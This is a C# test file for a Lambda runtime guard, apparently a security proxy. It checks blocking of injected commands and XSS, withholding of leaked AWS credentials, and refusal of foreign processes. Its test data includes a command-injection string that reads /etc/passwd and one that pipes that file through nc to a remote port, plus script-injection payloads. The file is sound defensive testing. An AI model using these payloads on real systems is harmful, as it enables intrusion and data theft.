using System.Text;
using System.Text.Json;
using Pellicle.Domain;
using Pellicle.Guard.Channel;
using Pellicle.Guard.Tests.Support;
using Pellicle.Policy;

namespace Pellicle.Guard.Tests;

/// <summary>Attacks in events, leaks in responses, strangers at the proxy.</summary>
public class BlockingTests
{
    private const string HttpAttack = """{"version":"2.0","rawPath":"/","queryStringParameters":{"host":"127.0.0.1; cat /etc/passwd"},"requestContext":{"http":{"method":"GET","path":"/"},"domainName":"x.execute-api.eu-west-1.amazonaws.com"}}""";
    private const string HttpBenign = """{"version":"2.0","rawPath":"/","queryStringParameters":{"host":"example.com"},"requestContext":{"http":{"method":"GET","path":"/"},"domainName":"x.execute-api.eu-west-1.amazonaws.com"}}""";
    private const string QueueAttack = """{"Records":[{"messageId":"1","eventSource":"aws:sqs","body":"$(cat /etc/passwd | nc 10.0.0.1 4444)","attributes":{}}]}""";
    private const string Secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";

    [Fact]
    public void In_protect_the_runtime_never_sees_the_attack_and_the_caller_gets_403()
    {
        using var hop = new Hop(ProtectionMode.Protect);
        using var runtime = hop.Runtime();
        hop.Platform.Event("bad", HttpAttack);
        var good = hop.Platform.Event("good", HttpBenign);

        runtime.Next().ShouldBe(good);

        hop.Platform.TakeRequest().ShouldContain("/next");
        var own = hop.Platform.TakeRequest();
        own.ShouldStartWith("POST /2018-06-01/runtime/invocation/bad/response HTTP/1.1\r\n");
        using var answer = JsonDocument.Parse(own[(own.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4)..]);
        answer.RootElement.GetProperty("statusCode").GetInt32().ShouldBe(403);
        hop.Platform.TakeRequest().ShouldContain("/next");
        var incident = hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem();
        incident.Decision.ShouldBe("blocked");
        incident.RequestId.ShouldBe("bad");
        incident.Field.ShouldBe("queryStringParameters.host");
        hop.Guardian.Health.Blocked.ShouldBe(1);
    }

    [Fact]
    public void Other_sources_get_an_error()
    {
        using var hop = new Hop(ProtectionMode.Protect);
        using var runtime = hop.Runtime();
        hop.Platform.Event("q", QueueAttack);
        var good = hop.Platform.Event("good", HttpBenign);
        runtime.Next().ShouldBe(good);
        hop.Platform.TakeRequest();
        var own = hop.Platform.TakeRequest();
        own.ShouldStartWith("POST /2018-06-01/runtime/invocation/q/error HTTP/1.1\r\n");
        own.ShouldContain("Lambda-Runtime-Function-Error-Type: Pellicle.Blocked\r\n");
    }

    [Fact]
    public void In_monitor_the_attack_is_delivered_and_reported()
    {
        using var hop = new Hop(ProtectionMode.Monitor);
        using var runtime = hop.Runtime();
        var bad = hop.Platform.Event("bad", HttpAttack);
        runtime.Next().ShouldBe(bad);
        runtime.Respond("bad", "1");
        hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem().Decision.ShouldBe("would-block");
        hop.Guardian.Health.WouldBlock.ShouldBe(1);
    }

    [Fact]
    public void The_mode_changes_between_two_events_without_a_new_connection()
    {
        using var hop = new Hop(ProtectionMode.Off);
        using var runtime = hop.Runtime();
        var first = hop.Platform.Event("1", HttpAttack);
        runtime.Next().ShouldBe(first);
        runtime.Respond("1", "1");
        hop.Guardian.Incidents.Pending.ShouldBeFalse();

        hop.Policy.Set(new PolicyDocument { Mode = ProtectionMode.Protect }, "test");
        hop.Platform.Event("2", HttpAttack);
        var third = hop.Platform.Event("3", HttpBenign);
        runtime.Next().ShouldBe(third);
        runtime.Respond("3", "1");

        hop.Policy.Set(new PolicyDocument { Mode = ProtectionMode.Off }, "test");
        var fourth = hop.Platform.Event("4", HttpAttack);
        runtime.Next().ShouldBe(fourth);
        hop.Platform.Connections.ShouldBe(1);
    }

    [Theory]
    [InlineData(ProtectionMode.Protect)]
    [InlineData(ProtectionMode.Monitor)]
    public void A_page_with_script_of_its_event_is_withheld(ProtectionMode mode)
    {
        const string Event = """{"version":"2.0","routeKey":"GET /","rawPath":"/","requestContext":{"http":{"method":"GET","path":"/"}},"queryStringParameters":{"name":"<script>alert(1)</script>"}}""";
        using var hop = new Hop(mode, s => s with { Secrets = [Secret] });
        using var runtime = hop.Runtime();
        hop.Platform.Event("p", Event);
        runtime.Next();
        hop.Platform.TakeRequest();
        runtime.Respond("p", """{"headers":{"content-type":"text/html"},"body":"<h1><script>alert(1)</script></h1>"}""");
        hop.Platform.TakeRequest().Contains("alert(1)", StringComparison.Ordinal).ShouldBe(mode == ProtectionMode.Monitor);
        hop.Guardian.Incidents.Take(10).ShouldContain(i => i.Detector == "xss" && i.Field == "queryStringParameters.name" && i.Decision == (mode == ProtectionMode.Protect ? "blocked" : "would-block"));

        hop.Platform.Event("q", Event);
        runtime.Next();
        hop.Platform.TakeRequest();
        runtime.Respond("q", """{"headers":{"content-type":"text/html"},"body":"<h1>&lt;script&gt;</h1>"}""");
        hop.Platform.TakeRequest().ShouldContain("&lt;script");
    }

    /// <summary>Alone it says little: many titles and tickets speak so.</summary>
    [Fact]
    public void A_page_with_code_that_the_event_only_hints_at_is_withheld()
    {
        using var hop = new Hop(ProtectionMode.Protect, s => s with { Secrets = [Secret] });
        using var runtime = hop.Runtime();
        hop.Platform.Event("p", """{"version":"2.0","routeKey":"GET /","rawPath":"/","requestContext":{"http":{"method":"GET","path":"/"}},"queryStringParameters":{"name":"\";alert(1);//"}}""");
        runtime.Next();
        hop.Platform.TakeRequest();
        runtime.Respond("p", """{"headers":{"content-type":"text/html"},"body":"<script>var name = \"\";alert(1);//\";</script>"}""");
        hop.Platform.TakeRequest().ShouldNotContain("alert(1)");
        hop.Guardian.Incidents.Take(10).ShouldContain(i => i.Detector == "xss" && i.Decision == "blocked");
    }

    [Theory]
    [InlineData("{\"key\":\"" + Secret + "\"}")]
    [InlineData("{\"key\":\"wJalrXUtnFEMI\\/K7MDENG\\/bPxRfiCYEXAMPLEKEY\"}")]
    [InlineData("{\"key\":\"wJalrXUtnFEMI\\u002FK7MDENG\\u002FbPxRfiCYEXAMPLEKEY\"}")]
    [InlineData("{\"key\":\"wJalrXUtnFEMI\\u002fK7MDENG\\u002fbPxRfiCYEXAMPLEKEY\"}")]
    [InlineData("key=wJalrXUtnFEMI%2FK7MDENG%2FbPxRfiCYEXAMPLEKEY")]
    public void A_response_with_the_credentials_is_withheld(string body)
    {
        using var hop = new Hop(ProtectionMode.Protect, s => s with { Secrets = [Secret] });
        using var runtime = hop.Runtime();
        hop.Platform.Event("l", HttpBenign);
        runtime.Next();
        hop.Platform.TakeRequest();
        Encoding.ASCII.GetString(runtime.Respond("l", body)).ShouldStartWith("HTTP/1.1 202");
        var sent = hop.Platform.TakeRequest();
        sent.ShouldContain("\"statusCode\":500");
        sent.ShouldNotContain("wJalrXUtnFEMI");
        hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem().Detector.ShouldBe("credential-leak");
    }

    [Fact]
    public void A_response_in_chunks_that_is_no_stream_is_withheld_as_another()
    {
        // As Go's client sends every response. The secret stands across two chunks.
        using var hop = new Hop(ProtectionMode.Protect, s => s with { Secrets = [Secret] });
        using var runtime = hop.Runtime();
        hop.Platform.Event("l", HttpBenign);
        runtime.Next();
        hop.Platform.TakeRequest();
        string[] pieces = ["{\"key\":\"" + Secret[..11], Secret[11..] + "\"}"];
        Encoding.ASCII.GetString(runtime.Ask($"POST /2018-06-01/runtime/invocation/l/response HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\nTrailer: X\r\n\r\n{pieces[0].Length:x}\r\n{pieces[0]}\r\n{pieces[1].Length:x}\r\n{pieces[1]}\r\n0\r\nX: 1\r\n\r\n"))
            .ShouldStartWith("HTTP/1.1 202");
        var sent = hop.Platform.TakeRequest();
        sent.ShouldContain("\"statusCode\":500");
        sent.ShouldNotContain(Secret[..11]);
        hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem().Decision.ShouldBe("blocked");
    }

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(2)]
    public void A_response_with_the_credentials_in_base64_is_withheld(int shift)
    {
        using var hop = new Hop(ProtectionMode.Protect, s => s with { Secrets = [Secret] });
        using var runtime = hop.Runtime();
        hop.Platform.Event("l", HttpBenign);
        runtime.Next();
        runtime.Respond("l", Convert.ToBase64String(Encoding.ASCII.GetBytes(new string('x', shift) + Secret + "tail")));
        hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem().Decision.ShouldBe("blocked");
    }

    [Fact]
    public void Credentials_that_are_turned_round_in_digits_or_compressed_are_still_credentials()
    {
        var turned = Secret.ToCharArray();
        Array.Reverse(turned);
        using var packed = new MemoryStream();
        using (var gzip = new System.IO.Compression.GZipStream(packed, System.IO.Compression.CompressionMode.Compress))
            gzip.Write(Encoding.ASCII.GetBytes($"{{\"key\":\"{Secret}\"}}"));
        foreach (var body in new[] { new string(turned), Convert.ToHexString(Encoding.ASCII.GetBytes(Secret)), Convert.ToHexStringLower(Encoding.ASCII.GetBytes("x" + Secret)), Convert.ToBase64String(packed.ToArray()) })
        {
            using var hop = new Hop(ProtectionMode.Protect, s => s with { Secrets = [Secret] });
            using var runtime = hop.Runtime();
            hop.Platform.Event("l", HttpBenign);
            runtime.Next();
            runtime.Respond("l", $"{{\"isBase64Encoded\":true,\"body\":\"{body}\"}}");
            hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem(body).Decision.ShouldBe("blocked");
        }
    }

    [Fact]
    public void A_leak_across_two_pieces_of_a_stream_is_reported()
    {
        using var hop = new Hop(ProtectionMode.Monitor, s => s with { Secrets = [Secret] });
        using var runtime = hop.Runtime();
        hop.Platform.Event("l", HttpBenign);
        runtime.Next();
        var invocation = hop.Guardian.Invocations.Find("l")!;
        var scanner = new RuntimeApi.LeakScanner([Secret]);
        invocation.LeaksAcross(Encoding.ASCII.GetBytes(new string('a', 500) + Secret[..17]), scanner).ShouldBe(RuntimeApi.LeakKind.None);
        invocation.LeaksAcross(Encoding.ASCII.GetBytes(Secret[17..21]), scanner).ShouldBe(RuntimeApi.LeakKind.None);
        invocation.LeaksAcross(Encoding.ASCII.GetBytes(Secret[21..] + new string('a', 500)), scanner).ShouldBe(RuntimeApi.LeakKind.Credential);
    }

    [Fact]
    public void A_response_without_them_is_not_touched()
    {
        using var hop = new Hop(ProtectionMode.Protect, s => s with { Secrets = [Secret] });
        using var runtime = hop.Runtime();
        hop.Platform.Event("l", HttpBenign);
        runtime.Next();
        hop.Platform.TakeRequest();
        runtime.Respond("l", "{\"key\":\"wJalrXUtnFEMI/K7MDENG/other\"}").ShouldBe(FakePlatform.Accepted);
        hop.Platform.TakeRequest().ShouldEndWith("{\"key\":\"wJalrXUtnFEMI/K7MDENG/other\"}");
        hop.Guardian.Incidents.Pending.ShouldBeFalse();
    }

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(2)]
    public void The_token_in_the_policy_of_a_signed_form_is_no_leak(int shift)
    {
        var token = "IQoJb3JpZ2luX2VjEJr" + string.Concat(Enumerable.Range(0, 30).Select(i => $"{i * 7919 % 10007:x4}+/"));
        string Policy(string name) => Convert.ToBase64String(Encoding.ASCII.GetBytes(new string(' ', shift) + $"{{\"conditions\": [{{\"bucket\": \"b\"}}, {{\"{name}\": \"{token}\"}}]}}"));
        var scanner = new RuntimeApi.LeakScanner([token]);
        scanner.Find(Encoding.ASCII.GetBytes($"{{\"policy\": \"{Policy("x-amz-security-token")}\"}}")).ShouldBe(RuntimeApi.LeakKind.None);
        scanner.Find(Encoding.ASCII.GetBytes($"{{\"policy\": \"{Policy("AWS_SESSION_TOKEN")}\"}}")).ShouldBe(RuntimeApi.LeakKind.Credential);
    }

    [Theory]
    [InlineData("wJalrXUtn+EMI=", "wJalrXUtn\\u002BEMI=")]
    [InlineData("wJalrXUtn+EMI/K7MDENG==", "wJalrXUtn\\u002bEMI\\u002fK7MDENG\\u003d\\u003d")]
    [InlineData("wJalrXUtn+EMI/K7MDENG==", "wJalrXUtn+EMI/K7MDENG\\u003d\\u003d")]
    [InlineData("wJalrXUtn+EMI/K7MDENG==", "wJalrXUtn\\u002BEMI/K7MDENG\\u003D\\u003D")]
    [InlineData("wJalrXUtn+EMI/K7MDENG==", "wJalrXUtn\\\\u002BEMI/K7MDENG==")]
    public void Escapes_of_json_writers_hide_no_credentials(string secret, string written) =>
        new RuntimeApi.LeakScanner([secret]).Find(Encoding.ASCII.GetBytes($"{{\"body\":\"{written}\"}}")).ShouldBe(RuntimeApi.LeakKind.Credential);

    [Fact]
    public void Who_may_have_its_system_calls_answered_is_the_wrapper_or_where_none_is_called_the_first_process()
    {
        using var hop = new Hop(ProtectionMode.Protect);
        hop.Guardian.MaySupervise(41).ShouldBeFalse();
        hop.Guardian.Met(ClientRole.Interposer, 41);
        hop.Guardian.Met(ClientRole.Interposer, 42);
        hop.Guardian.MaySupervise(41).ShouldBeTrue();
        hop.Guardian.MaySupervise(42).ShouldBeFalse();
        hop.Guardian.Met(ClientRole.Wrapper, 43);
        hop.Guardian.MaySupervise(43).ShouldBeTrue();
        hop.Guardian.MaySupervise(41).ShouldBeFalse();
        using var runtime = hop.Runtime();
        hop.Platform.Event("l", HttpBenign);
        runtime.Next();
        hop.Guardian.MaySupervise(43).ShouldBeFalse();
    }

    [Fact]
    public void An_error_report_with_the_credentials_is_withheld_and_stays_an_error()
    {
        using var hop = new Hop(ProtectionMode.Protect, s => s with { Secrets = [Secret] });
        using var runtime = hop.Runtime();
        hop.Platform.Event("l", HttpBenign);
        runtime.Next();
        hop.Platform.TakeRequest();
        Encoding.ASCII.GetString(runtime.Fail("l", "{\"errorMessage\":\"cannot connect with " + Secret + "\"}")).ShouldStartWith("HTTP/1.1 202");
        var sent = hop.Platform.TakeRequest();
        sent.ShouldStartWith("POST /2018-06-01/runtime/invocation/l/error");
        sent.ShouldContain("Pellicle.Blocked");
        sent.ShouldNotContain("wJalrXUtnFEMI");
        hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem().Decision.ShouldBe("blocked");
        runtime.Fail("l", "{\"errorMessage\":\"not found\"}");
    }

    /// <summary>As long as AWS's are, which begin alike in one region.</summary>
    private const string SessionToken = "IQoJb3JpZ2luX2VjEJr//////////wEaCXVzLWVhc3QtMSJHMEUCIQDf+own/5Zk1aqR3bT7uWcXo0eYpL2nVg8hKsQm4jTzAiBxw9dRfU6vGyPqE1lO3iNbHc7tJrMk0ZsXuQ2aWoLgVYTe==";

    [Theory]
    [InlineData("{\"url\":\"https://b.s3.amazonaws.com/k?X-Amz-Credential=A&X-Amz-Security-Token=TOKEN&X-Amz-Signature=0\"}")]
    [InlineData("{\"fields\":{\"key\":\"k\",\"x-amz-security-token\":\"TOKEN\"}}")]
    [InlineData("{\"body\":\"<input name=\\\"X-Amz-Security-Token\\\" value=\\\"TOKEN\\\">\"}")]
    public void The_token_of_a_signed_request_is_meant_to_leave(string answer)
    {
        var scanner = new RuntimeApi.LeakScanner([Secret, SessionToken]);
        foreach (var written in new[] { SessionToken, Uri.EscapeDataString(SessionToken), SessionToken.Replace("+", "\\u002B", StringComparison.Ordinal), SessionToken.Replace("/", "\\/", StringComparison.Ordinal) })
        {
            scanner.Find(Encoding.ASCII.GetBytes(answer.Replace("TOKEN", written, StringComparison.Ordinal))).ShouldBe(RuntimeApi.LeakKind.None);
            scanner.Find(Encoding.ASCII.GetBytes($"{{\"AWS_SESSION_TOKEN\":\"{written}\"}}")).ShouldBe(RuntimeApi.LeakKind.Credential);
        }
        scanner.Find(Encoding.ASCII.GetBytes(answer.Replace("TOKEN", $"{SessionToken}&k={Secret}", StringComparison.Ordinal))).ShouldBe(RuntimeApi.LeakKind.Credential);
    }

    [Fact]
    public void A_token_that_begins_like_the_roles_is_another()
    {
        var other = SessionToken[..58] + string.Concat(SessionToken[58..].Reverse());
        new RuntimeApi.LeakScanner([Secret, SessionToken]).Find(Encoding.ASCII.GetBytes($"{{\"SessionToken\":\"{other}\"}}")).ShouldBe(RuntimeApi.LeakKind.None);
    }

    [Theory]
    [InlineData(ProtectionMode.Protect)]
    [InlineData(ProtectionMode.Monitor)]
    public void An_answer_from_another_process_is_tampering(ProtectionMode mode)
    {
        using var hop = new Hop(mode);
        using var runtime = hop.Runtime();
        hop.Platform.Event("l", HttpBenign);
        runtime.Next();
        // The guard knows the runtime from its connection; a second question of its own makes sure of it without waiting.
        hop.Guardian.Identified(hop.Proxy.Open.Single(), Environment.ProcessId);
        hop.Guardian.MayPoll(hop.Proxy.Open.Single()).ShouldBeTrue();
        var answer = Stranger(hop, "POST", "l/response", "\"stolen\"");
        var incident = hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem();
        incident.Detector.ShouldBe("foreign-response");
        incident.RequestId.ShouldBe("l");
        answer.ShouldStartWith(mode == ProtectionMode.Protect ? "HTTP/1.1 400" : "HTTP/1.1 202");
        if (mode == ProtectionMode.Protect)
            runtime.Respond("l", "1").ShouldBe(FakePlatform.Accepted);
    }

    [Fact]
    public void A_strangers_question_is_refused_before_it_reaches_the_platform()
    {
        using var hop = new Hop(ProtectionMode.Protect);
        using var runtime = hop.Runtime();
        hop.Platform.Event("l", HttpBenign);
        runtime.Next();
        hop.Guardian.Identified(hop.Proxy.Open.Single(), Environment.ProcessId);
        hop.Guardian.MayPoll(hop.Proxy.Open.Single()).ShouldBeTrue();
        Stranger(hop, "GET", "next", "").ShouldStartWith("HTTP/1.1 403");
        var incident = hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem();
        incident.Detector.ShouldBe("second-poller");
        incident.RequestId.ShouldBe("l");
    }

    /// <summary>One request from a process of its own; the status line it got.</summary>
    private static string Stranger(Hop hop, string method, string route, string body)
    {
        var script = $"exec 3<>/dev/tcp/127.0.0.1/{hop.Proxy.Address.Port}; printf '{method} /2018-06-01/runtime/invocation/{route} HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: {body.Length}\\r\\n\\r\\n%s' '{body}' >&3; read -r line <&3; echo \"$line\"";
        using var process = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("/bin/bash", ["-c", script]) { RedirectStandardOutput = true })!;
        var line = process.StandardOutput.ReadLine() ?? "";
        process.WaitForExit();
        return line;
    }

    [Theory]
    [InlineData(ProtectionMode.Protect)]
    [InlineData(ProtectionMode.Monitor)]
    public void An_answer_to_an_id_that_was_never_handed_out_is_tampering(ProtectionMode mode)
    {
        using var hop = new Hop(mode);
        using var runtime = hop.Runtime();
        var answer = Encoding.ASCII.GetString(runtime.Respond("12345678-stolen", "{}"));
        answer.ShouldStartWith(mode == ProtectionMode.Protect ? "HTTP/1.1 400" : "HTTP/1.1 202");
        var incident = hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem();
        incident.Detector.ShouldBe("unknown-request-id");
        incident.Decision.ShouldBe(mode == ProtectionMode.Protect ? "blocked" : "would-block");
    }

    [Fact]
    public void A_second_poller_is_refused_in_protect()
    {
        using var hop = new Hop(ProtectionMode.Protect);
        using var runtime = hop.Runtime();
        hop.Platform.Event("1", HttpBenign);
        runtime.Next();
        var connection = hop.Proxy.Open.Single();
        hop.Guardian.Identified(connection, Environment.ProcessId);
        runtime.Respond("1", "1");
        hop.Platform.Event("2", HttpBenign);
        runtime.Next();

        using var stranger = hop.Runtime();
        stranger.Ask("GET /2018-06-01/ping HTTP/1.1\r\nHost: h\r\n\r\n");
        var second = hop.Proxy.Open.Single(c => !ReferenceEquals(c, connection));
        hop.Guardian.Identified(second, Environment.ProcessId); // first with the runtime's own id: allowed
        hop.Guardian.MayPoll(second).ShouldBeTrue();
        second.Pid = 1;
        Encoding.ASCII.GetString(stranger.Next()).ShouldStartWith("HTTP/1.1 403");
        hop.Guardian.Incidents.Take(10).ShouldHaveSingleItem().Detector.ShouldBe("second-poller");
    }

    [Fact]
    public void The_process_behind_a_connection_is_found()
    {
        using var hop = new Hop(ProtectionMode.Monitor);
        using var runtime = hop.Runtime();
        runtime.Ask("GET /2018-06-01/ping HTTP/1.1\r\nHost: h\r\n\r\n");
        Native.PeerFinder.Find(hop.Proxy.Open.Single().ClientPort, hop.Proxy.Address.Port).ShouldBe(Environment.ProcessId);
    }
}
